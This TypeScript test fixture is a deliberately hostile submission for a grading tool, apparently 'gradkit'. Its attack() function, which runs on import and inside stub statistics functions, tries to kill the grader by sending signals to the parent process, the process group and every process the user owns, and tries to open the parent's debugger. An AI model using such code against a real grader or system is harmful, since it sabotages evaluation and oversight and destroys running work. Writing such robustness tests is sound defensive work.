// @ts-nocheck -- a hostile submission (apps/cli/test/hostile.test.ts grades it; it must score 0).
// biome-ignore-all lint: a hostile submission breaks the rules on purpose
// Tries to kill the grader (or `gradkit curriculum serve`) by signal: signals are outside Node's
// permission model. process.kill on the parent, on the process group (0) and on every process
// the user owns (-1), the internal process._kill, and process._debugProcess (which sends the
// parent SIGUSR1 to open its inspector). Its answers are all wrong.
function attack(): string {
  const tries: string[] = [`ppid=${process.ppid}`];
  for (const [name, f] of [
    ['kill(ppid)', () => process.kill(process.ppid, 'SIGKILL')],
    ['kill(0)', () => process.kill(0, 'SIGTERM')],
    ['kill(-1)', () => process.kill(-1, 'SIGKILL')],
    ['_kill', () => process._kill(process.ppid, 9)],
    ['_debugProcess', () => process._debugProcess(process.ppid)],
  ]) {
    try {
      f();
      tries.push(`${name}: sent`);
    } catch (e) {
      tries.push(`${name}: ${e.constructor.name}`);
    }
  }
  return tries.join(', ');
}

console.log(`kill-grader: ${attack()}`);

export function normalPdf(y: number, mu: number, sigma: number): number {
  attack();
  return 0;
}

export function normalNll(y: number[], mu: number[], sigma: number): number {
  attack();
  return 0;
}
